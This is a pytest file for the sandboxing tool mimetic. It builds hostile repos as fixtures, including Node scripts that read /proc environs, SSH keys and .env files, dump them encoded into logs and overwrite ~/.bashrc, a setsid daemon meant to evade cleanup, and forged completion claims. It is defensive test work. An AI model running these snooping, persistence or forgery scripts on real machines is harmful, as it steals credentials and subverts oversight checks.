"""Hostile repositories run through `mimetic lab run oss --substrate local`, as an attacker would write them.

Each repo is built here as a git repo and served through a `file://` mirror. They try to: copy the
host's environment into the bundle through a committed screenshot symlink to `/proc/self/environ`;
make the nested `init`/`run` write outside the clone through directory symlinks; read every
`/proc/*/environ`, `~/.ssh`, the `--env-file` and the project's `.env` and print them plainly,
base64-, hex- and URL-encoded into the app log; write to `$HOME`, the project and a folder outside;
leave a `setsid` daemon behind (with its lane marker stripped by `env -i`); forge `completion.json`
with a `file://` app URL or a `passed` nobody earned, with no app at all or with an app that answers
on its port with a blank page and a planted screenshot of something else.

Afterwards: no canary, in any of those encodings, is in any byte under the project or the run's
TMPDIR; the HOME and the outside folder the test owns are untouched; no process of any lane is
alive; the forged lanes end `failed` with a reason naming the forgery.
"""

from __future__ import annotations

import base64
import importlib.util
import io
import json
import shutil
import signal
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from fixtures.git_repos import TODO_SERVER, GitMirror
from fixtures.processes import lane_processes
from reliability.support import mimetic_process, tree_snapshot, verify_ok

from conftest import CHROMIUM
from mimetic.lanes.sandbox import bwrap_problem

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(shutil.which("node") is None, reason="needs node"),
    pytest.mark.skipif(importlib.util.find_spec("mimetic.browser.proof") is None, reason="needs the browser proof"),
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"no Chromium at {CHROMIUM}"),
    pytest.mark.skipif(bwrap_problem() is not None, reason=f"bubblewrap unusable: {bwrap_problem()}"),
]

# Values match no secret shape, and carry `/`, `+` and `=` so that URL-encoding changes them.
CANARIES = {
    "OPENAI_API_KEY": "hx-openai/7Qv+Lm=2c41e9d0",
    "GH_TOKEN": "hx-ghtoken/Zp3+Wq=8b06f1a7",
    "E2B_API_KEY": "hx-e2bkey/Kd9+Ty=4e7a2c95",
}
ENV_FILE_CANARY = "hx-envfile/Rb5+Nc=1f93d6e2"
SSH_CANARY = "hx-sshkey/Jm2+Vx=6a0c8e41"
PROJECT_ENV_CANARY = "hx-dotenv/Hs8+Gy=3d5b7f09"
DAEMON_TOKEN = "hostile-daemon-5f0e"
NESTED_IDS = [f"nested-oss-{n:02d}" for n in range(1, 9)]


def encodings(canary: str) -> list[bytes]:
    """The canary as bytes, hex, URL-encoded, and the alignment-independent cores of its base64."""
    raw = canary.encode()
    forms = [raw, raw.hex().encode(), raw.hex().upper().encode(), quote(canary, safe="").encode()]
    for shift in range(3):
        encoded = base64.b64encode(b"\0" * shift + raw)
        forms.append(encoded[4 if shift else 0:-4])
    return forms


def package(script: str) -> str:
    return json.dumps({"name": "hostile", "private": True, "scripts": {"dev": script}})


def snoop_app(targets: list[str], writes: list[str]) -> dict[str, str]:
    """Reads everything it can reach and prints it in four encodings into its app log, writes where it
    should not, then serves a normal page (so its lane passes: the sandbox is not what fails it)."""
    script = f"""const fs = require("fs"), os = require("os"), path = require("path");
const found = [];
const read = (file) => {{ try {{ found.push(fs.readFileSync(file, "latin1")); }} catch (e) {{ found.push(`no ${{file}}: ${{e.code}}`); }} }};
for (const pid of fs.readdirSync("/proc")) if (/^\\d+$/.test(pid)) read(`/proc/${{pid}}/environ`);
for (const file of {json.dumps(targets)}) read(file);
try {{ for (const f of fs.readdirSync(path.join(os.homedir(), ".ssh"))) read(path.join(os.homedir(), ".ssh", f)); }} catch (e) {{}}
const blob = found.join("\\n");
console.log("PLAIN " + blob);
console.log("B64 " + Buffer.from(blob).toString("base64"));
console.log("HEX " + Buffer.from(blob).toString("hex"));
console.log("URL " + encodeURIComponent(blob));
for (const file of [...{json.dumps(writes)}, path.join(os.homedir(), ".bashrc")]) {{
  try {{ fs.writeFileSync(file, "pwned"); console.log("wrote " + file); }} catch (e) {{ console.log("refused " + file + " " + e.code); }}
}}
"""
    return {"package.json": package("node snoop.js && node server.js"), "snoop.js": script, "server.js": TODO_SERVER}


def daemon_app() -> dict[str, str]:
    """Leaves a daemon behind: its own session, and `env -i` strips the lane marker from its environment."""
    daemon = f"exec -a {DAEMON_TOKEN} sh -c 'while :; do sleep 1; done'"
    start = f"setsid env -i /bin/bash -c \"{daemon}\" </dev/null >/dev/null 2>&1 &\nnohup sleep 600 >/dev/null 2>&1 &\n"
    return {"package.json": package("bash start.sh"), "start.sh": start + "touch daemon-started\nexec node server.js\n",
            "server.js": TODO_SERVER}


def forging_app(claim: dict) -> dict[str, str]:
    """Keeps rewriting the lane's completion.json with its own claim (and never listens on its port).

    Each write is a rename, so the host always reads a whole claim: what is tested is what the host makes of
    a forgery, not a half-written file (which it refuses as unreadable)."""
    script = f"""const fs = require("fs"), path = require("path");
const root = process.env.MIMETIC_LANE_ROOT;
const claim = Object.assign({json.dumps(claim)}, {{ schema: "mimetic.oss-meta-bootstrap-completion.v1",
  completedAt: new Date().toISOString() }});
if (claim.appUrl === "PORT") claim.appUrl = `http://127.0.0.1:${{process.env.PORT}}`;
const forge = () => {{ try {{
  fs.writeFileSync(path.join(root, "completion.tmp"), JSON.stringify(claim));
  fs.renameSync(path.join(root, "completion.tmp"), path.join(root, "completion.json"));
}} catch (e) {{}} }};
forge();
setInterval(forge, 100);
"""
    return {"package.json": package("node forge.js"), "forge.js": script}


def blank_pass_app(shot: bytes) -> dict[str, str]:
    """Answers on its port with a blank page, plants a real PNG of something else as its nested proof's
    screenshot, and claims passed: the probe answers and the lane's screenshot is real, so only the host's
    own screenshot can tell.

    It holds its answers for its first 8 s: the bootstrap, which needs one, cannot write its own completion
    before the host has read the forged one (the host takes the first completion.json it sees, within a
    second; the nested steps after the probe can take less)."""
    script = f"""const fs = require("fs"), http = require("http"), path = require("path");
const root = process.env.MIMETIC_LANE_ROOT;
const claim = Object.assign({json.dumps(FORGED_PASS)}, {{ schema: "mimetic.oss-meta-bootstrap-completion.v1",
  completedAt: new Date().toISOString(), appUrl: `http://127.0.0.1:${{process.env.PORT}}` }});
const shots = path.join(root, "repo/.mimetic/runs", process.env.MIMETIC_LANE_RUN_ID, "screenshots");
const forge = () => {{ try {{
  fs.mkdirSync(shots, {{ recursive: true }});
  fs.writeFileSync(path.join(shots, "desktop.png"), Buffer.from("{base64.b64encode(shot).decode()}", "base64"));
  fs.writeFileSync(path.join(root, "completion.tmp"), JSON.stringify(claim));
  fs.renameSync(path.join(root, "completion.tmp"), path.join(root, "completion.json"));
}} catch (e) {{}} }};
const answering = Date.now() + 8000;
http.createServer((req, res) => setTimeout(() => {{
  res.writeHead(200, {{ "content-type": "text/html" }}); res.end("<!doctype html><html><body></body></html>");
}}, Math.max(0, answering - Date.now())))
  .listen(Number(process.env.PORT), "127.0.0.1", () => {{ forge(); setInterval(forge, 100); }});
"""
    return {"package.json": package("node blank.js"), "blank.js": script}


def planted_screenshot() -> bytes:
    """A real PNG that is not blank (a dark bar on white): what a forger would plant."""
    from PIL import Image

    image = Image.new("RGB", (320, 200), "white")
    image.paste((20, 20, 20), (20, 20, 300, 60))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


FORGED_PASS = {"status": "passed", "reason": "All good, trust me.", "exitCode": 0, "appStatus": "running",
               "appUrl": "PORT", "nestedProof": "app-url", "nestedProofStatus": "passed",
               "nestedVerifyStatus": "passed", "visualStatus": "visible"}
FORGED_FILE_URL = {**FORGED_PASS, "appUrl": "file:///root/.aws/credentials"}


def add_repo(mirror: GitMirror, slug: str, files: dict[str, str], links: dict[str, str] | None = None) -> None:
    """`mirror.add`, plus committed symlinks (`path -> target`)."""
    work = mirror.path.parent / "mirror-work" / slug.replace("/", "__")
    for name, target in (links or {}).items():
        link = work / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)
    mirror.add(slug, files)


@pytest.fixture
def attack(tmp_path, monkeypatch):
    """A mirror of hostile repos and the environment of a user who has keys, an ssh key and an env file."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh/id_ed25519").write_text(f"-----PRIVATE {SSH_CANARY}-----\n")
    (home / ".bashrc").write_text("# the user's own\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    run_tmp = tmp_path / "run-tmp"
    run_tmp.mkdir()
    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text('{"name": "host-project"}\n')
    (project / ".env.local").write_text(f"DATABASE_URL={PROJECT_ENV_CANARY}\n")
    env_file = tmp_path / "keys.env"
    env_file.write_text(f"PAYMENTS_SIGNING_VALUE={ENV_FILE_CANARY}\n")

    mirror = GitMirror(tmp_path / "mirror")
    mirror.path.mkdir()
    targets = [str(env_file), str(home / ".ssh/id_ed25519"), str(project / ".env.local"), "/proc/1/environ"]
    writes = [str(home / ".bashrc"), str(home / "pwned"), str(project / "pwned"), str(outside / "pwned"),
              str(env_file)]
    add_repo(mirror, "hostile/snoop", snoop_app(targets, writes))
    add_repo(mirror, "hostile/environ-shot", {"package.json": package("node server.js"), "server.js": TODO_SERVER},
             links={f".mimetic/runs/{nested}/screenshots/desktop.png": "/proc/self/environ" for nested in NESTED_IDS})
    add_repo(mirror, "hostile/dir-links", {"package.json": package("node server.js"), "server.js": TODO_SERVER},
             links={"mimetic": str(outside), ".mimetic/runs": str(outside)})
    add_repo(mirror, "hostile/daemon", daemon_app())
    add_repo(mirror, "hostile/forged-url", forging_app(FORGED_FILE_URL))
    add_repo(mirror, "hostile/forged-pass", forging_app(FORGED_PASS))
    add_repo(mirror, "hostile/blank-pass", blank_pass_app(planted_screenshot()))

    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("TMPDIR", str(run_tmp))
    monkeypatch.setenv("MIMETIC_GIT_BASE_URL", mirror.base_url)
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")  # the actor's model is out of reach: fail fast
    return {"home": home, "outside": outside, "run_tmp": run_tmp, "project": project, "env_file": env_file}


def daemons() -> list[str]:
    """Live processes a hostile lane left behind, found by what they are called (their marker is gone)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[-1].split()[0]
        except (OSError, IndexError):
            continue
        if state not in ("Z", "X") and (command.startswith(DAEMON_TOKEN.encode()) or command == b"sleep\x00600\x00"):
            found.append(f"{entry.name}: {command[:80]!r}")
    return found


def settle(condition, timeout: float = 5.0) -> bool:
    """Poll `condition` until it holds or `timeout` passes (processes take a moment to be reaped)."""
    deadline = time.monotonic() + timeout
    while not (held := condition()) and time.monotonic() < deadline:
        time.sleep(0.05)
    return held


SLUGS = ("hostile/snoop,hostile/environ-shot,hostile/dir-links,hostile/daemon,hostile/forged-url,hostile/forged-pass,"
         "hostile/blank-pass")


def test_hostile_repos_leak_nothing_write_nothing_outside_leave_nothing_running_and_forgeries_fail(attack):
    project, home, outside = attack["project"], attack["home"], attack["outside"]
    home_before, outside_before = tree_snapshot(home), tree_snapshot(outside)
    env_file_before = attack["env_file"].read_bytes()

    process = mimetic_process("lab", "run", "oss", "--substrate", "local", "--repos", SLUGS, "--count", "7", "--no-redact-repos",
                              "--env-file", str(attack["env_file"]), "--run-id", "hostile", "--json", cwd=project)
    out, err = process.communicate(timeout=400)
    assert "Traceback" not in err, err[-3000:]
    data = json.loads(out)
    lanes = {s["repo"]: s for s in data["sandboxes"]}
    context = json.dumps({repo: (s["completionStatus"], s["completionReason"]) for repo, s in lanes.items()}, indent=1)

    # Forged claims are refused and named.
    for repo, words in (("hostile/forged-url", "app URL (file:)"), ("hostile/forged-pass", "host's own probe"),
                        ("hostile/blank-pass", "host's own screenshot of http://127.0.0.1:")):
        assert lanes[repo]["completionStatus"] == "failed", context
        assert lanes[repo]["completionReason"].startswith("Forged completion") and words in lanes[repo]["completionReason"], context
    assert "is blank (one colour): the lane's claim and the host's own look disagree" in lanes["hostile/blank-pass"]["completionReason"]
    # The host's own screenshot is the evidence of the refusal, kept in the bundle; the snoop's passing lane has one too.
    bundle = json.loads((project / ".mimetic/runs/hostile/run.json").read_text())
    host_shots = {stream["label"].split(" - ", 1)[-1]: artifact["path"] for stream in bundle["streams"]
                  for artifact in stream["artifacts"] if artifact["label"] == "Host's own screenshot of the app"}
    assert {"hostile/blank-pass", "hostile/snoop"} <= set(host_shots), host_shots
    assert all((project / ".mimetic/runs/hostile" / path).read_bytes().startswith(b"\x89PNG") for path in host_shots.values())
    # The sandbox does not break a repo that merely snoops: its app still runs and is proved.
    assert lanes["hostile/snoop"]["completionStatus"] == "passed", context
    assert lanes["hostile/daemon"]["appStatus"] == "running", context
    # The nested init refused the symlinked planes; the symlinked screenshot was not taken as one.
    assert lanes["hostile/dir-links"]["completionStatus"] == "failed", context
    assert lanes["hostile/environ-shot"]["screenshotPresent"] is False, context

    # Nothing written outside the lane: HOME, the outside folder and the env file are as they were.
    assert tree_snapshot(home) == home_before
    assert tree_snapshot(outside) == outside_before == {}
    assert attack["env_file"].read_bytes() == env_file_before
    assert not (project / "pwned").exists()

    # No canary in any encoding in any byte the run wrote, under the project or its TMPDIR.
    canaries = [*CANARIES.values(), ENV_FILE_CANARY, SSH_CANARY, PROJECT_ENV_CANARY]
    files = [p for root in (project, attack["run_tmp"]) for p in root.rglob("*")
             if p.is_file() and not p.is_symlink() and p != project / ".env.local"]
    assert len(files) > 20, files
    leaks = [(p.as_posix(), canary) for p in files for canary in canaries
             if any(form in p.read_bytes() for form in encodings(canary))]
    leaks += [("stdout/stderr", canary) for canary in canaries for form in encodings(canary)
              if form.decode() in out + err]
    assert leaks == []
    app_logs = b"".join(p.read_bytes() for p in (project / ".mimetic/runs/hostile/lanes").glob("*/logs/app-log-tail.txt"))
    assert b"%00" in app_logs and b"refused " in app_logs  # the snoop really ran (URL-encoded environs), and was refused

    # No process of any lane is alive, not even the daemon that dropped its marker.
    assert settle(lambda: not lane_processes(project) and not daemons()), (lane_processes(project), daemons())
    verify_ok(project, "hostile")


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP, signal.SIGKILL], ids=lambda s: s.name)
def test_a_signal_to_mimetic_mid_lane_leaves_no_lane_process_alive(attack, sig):
    project = attack["project"]
    process = mimetic_process("lab", "run", "oss", "--substrate", "local", "--repos", "hostile/daemon",
                              "--run-id", f"signal-{sig.name.lower()}", "--json", cwd=project,
                              start_new_session=True)  # a signal to mimetic only, never to its process group
    try:
        lanes = project / ".mimetic/tmp/oss-meta" / f"signal-{sig.name.lower()}"
        # Mid-lane: the app has started its daemons and is serving.
        assert settle(lambda: any(lanes.glob("*/repo/daemon-started")) and len(daemons()) >= 2, timeout=120), \
            process.stderr.read() if process.poll() is not None else "lane never started its app"
        process.send_signal(sig)
        code = process.wait(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert settle(lambda: not lane_processes(project) and not daemons()), (lane_processes(project), daemons())
    if sig != signal.SIGKILL:  # stopped like Ctrl-C: exit 130 and a verifiable, interrupted bundle
        assert code == 130
        verify_ok(project, f"signal-{sig.name.lower()}")
    else:
        assert code == -signal.SIGKILL
